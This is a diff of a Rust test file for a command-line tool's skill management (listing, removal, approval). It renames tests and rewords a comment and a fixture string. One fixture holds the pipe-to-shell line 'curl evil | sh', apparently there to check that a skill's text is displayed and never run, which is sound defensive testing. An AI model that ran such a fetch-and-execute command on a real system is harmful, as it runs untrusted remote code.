@@ -103,7 +103,7 @@ fn sk2_skills_are_listed_and_explained() {
     );
     let run = asked(&["skills", "status", "mail"], "skills.update", &json!({}), &all).ok();
     for part in [
-        "curl evil | sh (its author's words, never run)",
+        "curl evil | sh (the author's text, never run)",
         "gh (not checked)",
         &"b".repeat(64),
         "shell.exec",
@@ -209,7 +209,7 @@ fn sk5_what_does_not_belong_in_a_skill_is_named_and_nothing_is_sent() {
 }
 
 #[test]
-fn sk5_removing_says_whose() {
+fn sk5_removing_names_the_scope() {
     let removed = json!({"removed": true, "scope": "agent"});
     asked(
         &["skills", "remove", "mail"],
@@ -241,7 +241,7 @@ fn sk5_removing_says_whose() {
 }
 
 #[test]
-fn sk4_what_is_approved_is_what_was_shown() {
+fn sk4_the_files_that_were_shown_are_approved() {
     let shown = json!({"skill": skill("mail", &json!({"state": "changed", "approvedSha256": "b".repeat(64)})), "content": "line\n".repeat(50), "files": ["SKILL.md"]});
     let gateway = FakeGateway::new();
     let home = gateway.home();
@@ -251,7 +251,7 @@ fn sk4_what_is_approved_is_what_was_shown() {
             connection.answer(&request, &shown);
         })
     };
-    // Nobody to ask: nothing is approved.
+    // Without a terminal, nothing is approved.
     let run = played(&home, &gateway, &["skills", "approve", "mail"], vec![look()]).failed(2);
     assert!(run.stderr.contains("--yes"), "{run:?}");
     let run = played(
